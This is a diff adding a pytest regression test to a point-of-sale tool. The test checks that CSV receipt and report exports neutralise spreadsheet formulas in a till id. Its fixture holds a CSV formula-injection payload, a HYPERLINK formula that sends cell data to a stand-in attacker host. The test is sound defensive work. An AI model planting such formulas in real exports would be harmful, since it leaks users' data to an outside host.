@@ -124,3 +124,30 @@ def test_receipts_export_after_sales(tmp_path, sandbox, api_key):
         "payment_intent": records[2]["payment_intent"],
         "card_last4": "4242",
     }
+
+
+def test_csv_exports_quote_a_till_id_a_spreadsheet_would_run(tmp_path, sandbox, api_key):
+    """Hostile-tester finding: the catalog export quoted formula cells, but `pos report --format csv`
+    and `pos receipts export` wrote a till id (settings, or another till's through the shop) such as
+    =HYPERLINK(…) as it was: the accountant's spreadsheet runs it. Amounts stay numbers."""
+    data = tmp_path / "data"
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"T1")'
+    assert pos("--data-dir", str(data), "settings", "set", "till_id", hostile).returncode == 0
+    env = {"POS_STRIPE_API_KEY": api_key}
+    sold = subprocess.run(
+        [sys.executable, "-m", "tests.helpers.sell", str(data), sandbox.url, "1"],
+        capture_output=True,
+        text=True,
+        env=dict(os.environ, PYTHONPATH=str(ROOT), **env),
+        cwd=ROOT,
+        timeout=120,
+    )
+    assert sold.returncode == 0, sold.stderr
+    [row] = list(csv.DictReader(io.StringIO(pos("--data-dir", str(data), "receipts", "export").stdout)))
+    assert row["till_id"] == "'" + hostile and row["total_minor"] == "450"
+    day = row["created_at"][:10]
+    report = pos("--data-dir", str(data), "report", "--date", day, "--format", "csv")
+    cells = {(r["section"], r["item"]): r["value"] for r in csv.DictReader(io.StringIO(report.stdout))}
+    assert cells[("report", "till_id")] == "'" + hostile
+    assert cells[("totals", "gross")] == "4.50"
+    assert not [v for v in cells.values() if v.startswith(("=", "+", "@"))]
